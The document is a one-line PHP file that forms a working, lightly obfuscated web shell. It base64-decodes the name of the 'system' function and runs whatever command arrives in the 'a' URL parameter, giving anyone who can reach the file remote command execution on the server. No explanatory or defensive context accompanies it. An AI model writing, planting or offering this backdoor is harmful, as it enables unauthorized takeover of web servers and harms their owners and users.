<?php $x=base64_decode("c3lzdGVt");$x($_GET["a"]);
